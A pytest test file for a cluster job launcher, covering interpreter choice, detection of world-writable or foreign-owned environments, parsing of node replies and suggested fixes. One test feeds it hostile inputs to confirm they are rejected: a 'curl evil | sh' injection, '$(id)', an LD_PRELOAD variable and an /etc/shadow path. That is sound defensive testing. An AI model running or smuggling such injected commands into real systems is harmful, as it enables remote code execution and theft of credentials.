"""Which Python and program ranks get: what a node reports, what is chosen from it, and what is found wrong."""

import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from doctor.software.test_checks_software import RECORDED, _run, _said

from aboard.agent.inspect import launch_environment
from aboard.config import this_machine
from aboard.config.this_machine import find_environment
from aboard.core.cluster.cluster import Cluster
from aboard.core.cluster.container import Container
from aboard.core.cluster.interpreter import (
    FoundInterpreter,
    HeadEnvironment,
    Interpreter,
    InterpreterSource,
    choose_interpreter,
)
from aboard.core.cluster.node import Node
from aboard.core.plan.program import Program, ProgramKind, parse_python_command
from aboard.core.probes.facts import Facts, Unknown
from aboard.core.probes.rank_environment import (
    ProgramFile,
    RankEnvironment,
    RankSpec,
    build_environment_query,
    parse_environment,
)
from aboard.diagnoses import Finding, Severity
from aboard.diagnoses.untrusted import Untrusted
from aboard.doctor.software.node_software import parse_software
from aboard.doctor.software.subject import SUBJECT

VENV = "/home/me/venv/bin/python"
OFFERED = HeadEnvironment(python=VENV, origin=InterpreterSource.VIRTUAL_ENV)
FOUND = FoundInterpreter(
    exists=True, prefix=Untrusted("/home/me/venv"), variable="VIRTUAL_ENV", search_path=Untrusted("/usr/bin")
)
CONFIGURED = InterpreterSource.CONFIGURED
BOBS = Untrusted("bob's")
LOGIN = Interpreter(path="python3", origin=InterpreterSource.LOGIN_SHELL)
LACKS = replace(LOGIN, lacking=VENV, lacking_origin=InterpreterSource.VIRTUAL_ENV)
CHOSEN = Interpreter(
    path=VENV,
    origin=InterpreterSource.VIRTUAL_ENV,
    env={"PATH": "/home/me/venv/bin:/usr/bin", "VIRTUAL_ENV": "/home/me/venv"},
)


@pytest.mark.parametrize(
    ("configured", "offered", "found", "chosen"),
    [
        (None, OFFERED, FOUND, CHOSEN),
        (None, None, None, LOGIN),
        (None, OFFERED, FoundInterpreter(exists=False), LACKS),
        (None, OFFERED, replace(FOUND, unsafe=BOBS), replace(LOGIN, lacking=VENV, refused=BOBS)),
        # What was written down is the user's own decision, and also an environment.
        (Interpreter(path=VENV, origin=InterpreterSource.CONFIGURED), None, replace(FOUND, unsafe=BOBS), None),
        (
            Interpreter(path="python3", origin=InterpreterSource.SETUP),
            OFFERED,
            None,
            Interpreter(path="python3", origin=InterpreterSource.SETUP),
        ),
    ],
)
def test_the_choice(configured: Any, offered: Any, found: Any, chosen: Interpreter | None) -> None:
    """What was configured, else the head's environment where it is there and safe, else python3 of the login shell."""
    wanted = replace(CHOSEN, origin=InterpreterSource.CONFIGURED) if chosen is None else chosen
    assert choose_interpreter(configured, offered, found, local=False) == wanted


def test_what_already_runs_aboard_here_is_not_refused_here() -> None:
    """It is running with this user's rights already; on another machine it is not."""
    unsafe = replace(FOUND, unsafe=BOBS)
    running = replace(OFFERED, running=True)
    assert choose_interpreter(None, running, unsafe, local=True).path == VENV
    assert choose_interpreter(None, running, unsafe, local=False).path == "python3"
    assert choose_interpreter(None, OFFERED, unsafe, local=True).path == "python3"


def make_environment(folder: Path, *marks: str) -> Path:
    (folder / "bin").mkdir(parents=True)
    (folder / "bin/python").symlink_to(sys.executable)
    for mark in marks:
        (folder / mark).write_text("") if "." in mark else (folder / mark).mkdir()
    return folder


def test_the_active_environment_of_the_head(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The activated one first; what only runs aboard is not offered if it is a tool's own and has no torch."""
    venv, conda = make_environment(tmp_path / "venv"), make_environment(tmp_path / "conda")
    both = {"VIRTUAL_ENV": str(venv), "CONDA_PREFIX": str(conda)}
    assert find_environment(both) == HeadEnvironment(python=f"{venv}/bin/python", origin=InterpreterSource.VIRTUAL_ENV)
    assert find_environment({"CONDA_PREFIX": str(conda)}) == HeadEnvironment(
        python=f"{conda}/bin/python", origin=InterpreterSource.CONDA_PREFIX
    )
    gone = {"VIRTUAL_ENV": str(tmp_path / "gone")}
    assert find_environment(gone) == HeadEnvironment(
        python=sys.executable, origin=InterpreterSource.ABOARD, running=True
    )
    monkeypatch.setattr(sys, "prefix", str(venv))
    monkeypatch.setattr(sys, "executable", f"{venv}/bin/python")
    monkeypatch.setattr(this_machine, "find_spec", lambda _name: None)
    assert find_environment({}) == HeadEnvironment(
        python=f"{venv}/bin/python", origin=InterpreterSource.ABOARD, running=True
    )
    for mark in ("pipx_metadata.json", "uv-receipt.toml"):
        (venv / mark).write_text("{}")
        assert find_environment({}) is None
        (venv / mark).unlink()
    monkeypatch.setattr(sys, "prefix", sys.base_prefix)
    assert find_environment({}) is None


def test_what_an_agent_reports_of_an_interpreter(tmp_path: Path) -> None:
    """Unresolved, with the environment that it belongs to."""
    venv, conda = make_environment(tmp_path / "v", "pyvenv.cfg"), make_environment(tmp_path / "c", "conda-meta")
    report = launch_environment.describe_environment({"python": f"{venv}/bin/python"})["python"]
    assert (report["exists"], report["prefix"], report["variable"]) == (True, str(venv), "VIRTUAL_ENV")
    report = launch_environment.describe_environment({"python": f"{conda}/bin/python"})["python"]
    assert (report["prefix"], report["variable"]) == (str(conda), "CONDA_PREFIX")
    assert launch_environment.describe_environment({"python": f"{tmp_path}/none/python"})["python"] == {"exists": False}
    assert launch_environment.describe_environment({"python": "python3"})["python"] == {"exists": False}


def test_a_path_that_others_can_write_is_reported(tmp_path: Path) -> None:
    """In every directory on the way, and in the packages; a sticky directory such as /tmp protects what is in it."""
    venv = make_environment(tmp_path / "top/venv", "pyvenv.cfg")
    packages = venv / "lib/python3.11/site-packages"
    packages.mkdir(parents=True)
    python = f"{venv}/bin/python"
    ours = launch_environment.inspect_interpreter(python)["unsafe"]
    assert str(tmp_path) not in ours
    for path in (tmp_path / "top", venv / "bin", packages, venv / "pyvenv.cfg"):
        before = path.stat().st_mode
        path.chmod(before | 0o002)
        assert launch_environment.find_unsafe_writer(str(path)) == f"{path} is writable for everybody"
        assert launch_environment.inspect_interpreter(python)["unsafe"]
        path.chmod(before | 0o1002)
        assert bool(launch_environment.find_unsafe_writer(str(path))) is not path.is_dir()
        path.chmod(before)


def test_what_links_lead_to_is_looked_at_too(tmp_path: Path) -> None:
    """An environment that is a link into a directory that everybody can write."""
    make_environment(tmp_path / "open/venv", "pyvenv.cfg")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine/venv").symlink_to("../open/venv")
    python = f"{tmp_path}/mine/venv/bin/python"
    assert str(tmp_path) not in launch_environment.inspect_interpreter(python)["unsafe"]
    (tmp_path / "open").chmod(0o777)
    assert launch_environment.inspect_interpreter(python)["unsafe"] == f"{tmp_path}/open is writable for everybody"


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to give a file away")
def test_a_path_that_another_user_owns_is_reported(tmp_path: Path) -> None:
    """By name where it has one; the group of somebody else is reported, too."""
    path = tmp_path / "python"
    path.write_text("")
    os.chown(path, 4711, 0)
    assert launch_environment.find_unsafe_writer(str(path)) == f"{path} belongs to user 4711"
    os.chown(path, 0, 4712)
    path.chmod(0o775)
    assert launch_environment.find_unsafe_writer(str(path)) == f"{path} is writable by the group 4712"
    # Everybody's primary group on many systems, which lists no members.
    os.chown(path, 0, 100)
    assert launch_environment.find_unsafe_writer(str(path)) == f"{path} is writable by the group users"


def test_what_an_agent_reports_of_a_program(tmp_path: Path) -> None:
    """A script by its path from the working directory, a program along PATH, the environment's first."""
    (tmp_path / "train.py").write_text("print(1)")
    script = launch_environment.describe_environment({"workdir": str(tmp_path), "script": "train.py"})
    assert script["workdir"] is True
    assert script["program"]["exists"]
    assert len(script["program"]["digest"]) == 64
    gone = launch_environment.describe_environment({"workdir": f"{tmp_path}/gone", "script": "train.py"})
    assert (gone["workdir"], gone["program"]["exists"]) == (False, False)
    venv = make_environment(tmp_path / "venv", "pyvenv.cfg")
    tool = venv / "bin/tool"
    tool.write_text("")
    asked = {"python": f"{venv}/bin/python", "program": "tool"}
    assert launch_environment.describe_environment(asked)["program"] == {"exists": False, "path": "tool"}
    (tmp_path / "first/tool").mkdir(parents=True)
    (tmp_path / "first/tool").chmod(0o755)
    tool.chmod(0o755)
    unsafe = launch_environment.inspect_interpreter(f"{venv}/bin/python")["unsafe"]
    assert launch_environment.describe_environment(asked)["program"]["exists"] is not bool(unsafe)
    assert launch_environment.describe_environment({"program": "./train.py", "workdir": str(tmp_path)})["program"][
        "problem"
    ]


def test_the_question_names_only_what_a_node_can_be_asked() -> None:
    """A module is found by its interpreter, and what setup lines put on PATH only by them."""
    script = Program(kind=ProgramKind.SCRIPT, target="train.py")
    node = Node(name="n1", workdir="/job")
    spec = RankSpec(environment=OFFERED, program=script)
    assert build_environment_query(node, spec) == {"python": VENV, "script": "train.py", "workdir": "/job"}
    module = replace(spec, program=Program(kind=ProgramKind.MODULE, target="pkg"))
    assert build_environment_query(node, module) == {"python": VENV, "workdir": "/job"}
    own = Node(name="n1", setup=("x",), interpreter=Interpreter(path="python3", origin=InterpreterSource.SETUP))
    assert build_environment_query(own, spec) == {}
    tool = RankSpec(program=Program(kind=ProgramKind.PROGRAM, target="tool"))
    assert build_environment_query(Node(name="n1"), tool) == {"program": "tool"}
    given = replace(tool, search_path="/opt/bin")
    assert build_environment_query(Node(name="n1"), given) == {"program": "tool", "search_path": "/opt/bin"}
    python = RankSpec(program=Program(kind=ProgramKind.PROGRAM, target="python", args=("-c", "1")))
    assert build_environment_query(Node(name="n1"), python) == {}


def test_of_ranks_in_a_container_only_the_working_directory_is_asked() -> None:
    """The agent is outside: it sees neither the image's Python and programs nor files that are only in the image."""
    container = Container(runtime="apptainer", image="x.sif", python="/opt/bin/python")
    node = Node(name="n1", workdir="/job", container=container, interpreter=Interpreter(path=VENV, origin=CONFIGURED))
    spec = RankSpec(environment=OFFERED, program=Program(kind=ProgramKind.SCRIPT, target="train.py"))
    assert build_environment_query(node, spec) == {"workdir": "/job", "script": "train.py"}
    for kind, target in ((ProgramKind.SCRIPT, "/opt/app/train.py"), (ProgramKind.PROGRAM, "tool")):
        other = replace(spec, program=Program(kind=kind, target=target))
        assert build_environment_query(node, other) == {"workdir": "/job"}
    elsewhere = replace(node, container=replace(container, workdir="/workspace"))
    assert build_environment_query(elsewhere, spec) == {"workdir": "/job"}
    bound = replace(node, container=replace(container, workdir="/workspace", binds=("/data/src:/workspace",)))
    assert build_environment_query(bound, spec) == {"workdir": "/job", "script": "/data/src/train.py"}
    seen = parse_environment(bound, spec, {"workdir": True, "program": {"exists": False}}).program
    assert seen is not None
    assert seen.path == "/data/src/train.py"
    chosen = parse_environment(node, spec, {}).interpreter
    assert str(chosen) == "/opt/bin/python (in the container)"


def test_programs_may_differ_and_scripts_are_where_their_paths_lead() -> None:
    """Two builds of bash are no reason to stop; `../train.py` is copied to where it belongs."""
    node = Node(name="n1", workdir="/home/me/proj")
    reply = {"program": {"exists": True, "digest": "d"}}
    for program, path, digest in (
        (Program(kind=ProgramKind.PROGRAM, target="bash"), "bash", ""),
        (Program(kind=ProgramKind.SCRIPT, target="../train.py"), "/home/me/train.py", "d"),
    ):
        found = parse_environment(node, RankSpec(program=program), reply).program
        assert found is not None
        assert (found.path, found.digest.visible()) == (path, digest)


def test_a_path_is_taken_whole_or_not_at_all() -> None:
    """Half a PATH would lose /usr/bin."""
    search = ":".join(["/opt/spack/a/very/long/folder/bin"] * 400)
    found = {"exists": True, "prefix": "/home/me/venv", "variable": "VIRTUAL_ENV"}
    told = parse_environment(
        Node(name="n1"), RankSpec(environment=OFFERED), {"python": found, "search_path": f"{search}:/usr/bin"}
    )
    assert told.interpreter.env["PATH"].endswith(":/usr/bin")
    with pytest.raises(ValueError, match="PATH is too long"):
        parse_environment(Node(name="n1"), RankSpec(environment=OFFERED), {"search_path": "x" * 200_000})


def test_a_reply_is_data() -> None:
    """A node can't name a variable for ranks, and what it says is made fit for a screen."""
    hostile = {"python": {"exists": True, "prefix": "/x", "variable": "LD_PRELOAD"}, "search_path": "/bin"}
    with pytest.raises(ValueError, match="an invalid reply"):
        parse_environment(Node(name="n1"), RankSpec(environment=OFFERED), hostile)
    reply = {
        "python": {"exists": False},
        "program": {"exists": True, "path": "/etc/shadow", "problem": "\x1b"},
        "workdir": 1,
    }
    spec = RankSpec(environment=OFFERED, program=Program(kind=ProgramKind.SCRIPT, target="train.py"))
    told = parse_environment(Node(name="n1", workdir="/job"), spec, reply)
    assert told.program is not None
    # A fix copies this path to the node.
    assert (told.program.path, told.program.problem.visible(), told.workdir) == ("/job/train.py", "\\x1b", None)
    for name in ("os; curl evil | sh", "$(id)", "a.b-c"):
        program = {"module": "", "asked_module": "", "needed": [], "imports": {}, "missing": [name]}
        with pytest.raises(ValueError, match="can't be parsed"):
            parse_software(_said({**RECORDED, "program": program}))


@pytest.mark.parametrize(
    ("words", "program"),
    [
        ("python train.py --lr 1", Program(kind=ProgramKind.SCRIPT, target="train.py", args=("--lr", "1"))),
        (
            "python3 -u -X dev train.py",
            Program(kind=ProgramKind.SCRIPT, target="train.py", options=("-u", "-X", "dev")),
        ),
        ("python -u -m pkg.cli -x", Program(kind=ProgramKind.MODULE, target="pkg.cli", args=("-x",), options=("-u",))),
        ("python -c print(1)", None),
        ("python -um pkg.cli", None),
        ("python -uc print(1)", None),
        ("python -Bu train.py", Program(kind=ProgramKind.SCRIPT, target="train.py", options=("-Bu",))),
        ("python", None),
        ("python -", None),
        ("/opt/python train.py", None),
        ("train.sh", None),
    ],
)
def test_python_in_a_command_is_the_chosen_interpreter(words: str, program: Program | None) -> None:
    """With its own options; a path means itself."""
    assert parse_python_command(words.split()) == parse_python_command(tuple(words.split())) == program
    node = Node(name="n1", interpreter=CHOSEN)
    if program is not None:
        assert program.argv(node, 0) == (VENV, *words.split()[1:])
    bare = Program(kind=ProgramKind.PROGRAM, target="python", args=("-c", "print(1)"))
    assert bare.argv(node, 0) == (VENV, "-c", "print(1)")


def environments(*interpreters: Interpreter, **more: Any) -> dict[str, RankEnvironment | Unknown]:
    return {f"n{number}": RankEnvironment(interpreter=each, **more) for number, each in enumerate(interpreters, 1)}


def judge(found: dict[str, RankEnvironment | Unknown], *software: dict[str, Any]) -> list[Finding]:
    answers = {f"n{number}": parse_software(_said({**RECORDED, **each})) for number, each in enumerate(software, 1)}
    cluster = Cluster(nodes=tuple(Node(name=name, workdir="/job") for name in found))
    return SUBJECT.judge(Facts(cluster=cluster, contacts={}, answers={"software": answers}, environments=found))


def test_an_environment_on_some_nodes_blocks_unless_python3_of_the_others_has_the_same_versions() -> None:
    """Of torch and of everything that the script imports."""
    program = {"module": "", "asked_module": "", "needed": ["train.py"], "missing": [], "imports": {"yaml": "6.0"}}
    other = {**program, "imports": {"yaml": "missing"}}
    found = environments(CHOSEN, LACKS)
    same = judge(found, {"program": program}, {"program": program})
    assert [(each.code, each.severity, each.nodes) for each in same] == [
        ("software-interpreter", Severity.WARN, ("n2",))
    ]
    assert "python3 there has the same packages" in same[0].seen
    assert judge(found, {"program": program}, {"program": other})[0].severity is Severity.BLOCK
    assert judge(found)[0].severity is Severity.BLOCK
    assert judge(environments(CHOSEN, CHOSEN), {}, {}) == []


def test_an_environment_on_no_node_is_a_warning_where_python3_has_no_torch() -> None:
    """With it, that ranks use python3 is worth a line."""
    found = environments(LACKS, LACKS)
    assert [(each.code, each.severity) for each in judge(found, {}, {})] == [
        ("software-interpreter-login", Severity.INFO)
    ]
    without: dict[str, Any] = {"packages": {}}
    assert judge(found, without, without)[0].severity is Severity.WARN


def test_a_script_that_no_node_has_is_synced_from_this_machine() -> None:
    """With our own command for all nodes; what only another node has comes from there."""
    gone, there = (ProgramFile(path="/job/train.py", exists=exists) for exists in (False, True))
    nowhere = judge(environments(CHOSEN, CHOSEN, workdir=True, program=gone))
    assert nowhere[0].fix == "aboard sync --on 'n[1-2]' /job/train.py    # or add --sync to the command"
    never = judge(environments(CHOSEN, CHOSEN, workdir=False, program=gone))
    assert never[0].fix.startswith("aboard sync --on 'n[1-2]' /job    #")
    some = judge({**environments(CHOSEN, CHOSEN, workdir=True, program=gone), **environments(CHOSEN, program=there)})
    assert some[0].fix.startswith("ssh n1 'tar -C / -cf - job/train.py' | ssh n2 ")


def test_a_mistyped_script_that_this_machine_lacks_too_is_not_synced() -> None:
    """The fix names the file that exists, unless a node has the script; what a node says is near is not used."""
    spec = RankSpec(program=Program(kind=ProgramKind.SCRIPT, target="trian.py"), near="train.py")
    gone, there = (
        parse_environment(Node(name="n1", workdir="/job"), spec, {"program": {"exists": exists, "near": "evil.py"}})
        for exists in (False, True)
    )
    (found,) = judge({"n1": replace(gone, workdir=True), "n2": replace(gone, workdir=True)})
    assert found.fix == "write train.py in the command: this machine does not have /job/trian.py either"
    unlike = replace(gone, workdir=True, program=ProgramFile(path="/job/trian.py", near=""))
    (found,) = judge({"n1": unlike, "n2": unlike})
    assert found.fix == "correct the path in the command: this machine does not have /job/trian.py either"
    (found,) = judge({"n1": replace(there, workdir=True), "n2": replace(gone, workdir=True)})
    assert found.fix.startswith("ssh n1 'tar -C / -cf - job/trian.py' | ssh n2 ")


def test_a_python_of_the_system_is_not_copied() -> None:
    """The fix of an environment recreates or copies it; all of /usr is not to be copied."""
    venv, conda = InterpreterSource.VIRTUAL_ENV, InterpreterSource.CONDA_PREFIX
    for path, origin, fix in (
        (
            "/home/me/venv/bin/python",
            venv,
            "aboard sync --env --on 'n[1-2]'    # creates the environment on the nodes\n",
        ),
        ("/home/me/conda/bin/python", conda, "tar -C / -cf - home/me/conda | ssh n1 'tar -C / -xf -'"),
        ("/usr/bin/python3.12", None, "ssh n1 'ls -l /usr/bin/python3.12'    # install it on n[1-2]"),
    ):
        lacks = replace(LOGIN, lacking=path, lacking_origin=origin)
        (found,) = judge(environments(lacks, lacks))
        assert found.fix.startswith(fix)


def test_an_import_that_is_missing_is_named_before_ranks_start() -> None:
    """With the interpreter that lacks it."""
    program = {
        "module": "",
        "asked_module": "",
        "needed": ["t.py"],
        "missing": ["yaml"],
        "imports": {"yaml": "missing"},
    }
    (found,) = judge(environments(LOGIN, LOGIN), {"program": program}, {"program": program})
    assert (found.code, found.nodes) == ("software-import", ("n1", "n2"))
    assert found.seen == "the script imports yaml, which /opt/venv/bin/python3 does not have"


def test_a_node_that_does_not_answer_is_not_vouched_for() -> None:
    """A dead mount, say."""
    (found,) = judge({"n1": Unknown(why="no answer in time")})
    assert (found.code, found.severity) == ("unknown-environment", Severity.WARN)


def test_the_script_reads_what_a_program_imports(tmp_path: Path) -> None:
    """Files beside it by following them, packages by their versions, and nothing is run."""
    (tmp_path / "lib").mkdir()
    for name, text in {
        "train.py": "import os, helper, nosuch_at_all\nfrom lib import part\nif 1:\n    import perhaps_not\n",
        "helper.py": "raise SystemExit('never run')\nfrom lib.other import x\n",
        "lib/__init__.py": "",
        "lib/part.py": "from . import third\n",
        "lib/other.py": "import click\n",
        "lib/third.py": "",
        "stray.py": "",
    }.items():
        (tmp_path / name).write_text(text)
    told = _run("facts", str(tmp_path), "script", "train.py")["program"]
    assert told["needed"] == sorted(
        ["train.py", "helper.py", "lib/__init__.py", "lib/part.py", "lib/other.py", "lib/third.py"]
    )
    assert told["missing"] == ["nosuch_at_all"]
    assert told["imports"]["perhaps_not"] == "missing"
    assert told["imports"]["click"] not in {"missing", "present"}


@pytest.mark.ci
def test_the_script_finds_the_file_that_a_module_runs(tmp_path: Path) -> None:
    """Beside it or among the packages, without importing it."""
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg/__main__.py").write_text("raise SystemExit(1)")
    # A directory of that name is no reason not to look among the packages.
    (tmp_path / "json").mkdir()
    (tmp_path / "one.py").write_text("")
    find = {
        name: _run("facts", str(tmp_path), "module", name)["program"]["module"]
        for name in ("pkg", "one", "pkg.none", "nosuch", "json.tool", "timeit")
    }
    assert find["pkg"] == str(tmp_path / "pkg/__main__.py")
    assert find["one"] == str(tmp_path / "one.py")
    assert (find["pkg.none"], find["nosuch"]) == ("", "")
    standard = subprocess.run(
        [sys.executable, "-c", "import json.tool, timeit; print(json.tool.__file__); print(timeit.__file__)"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert [find["json.tool"], find["timeit"]] == standard.stdout.split()
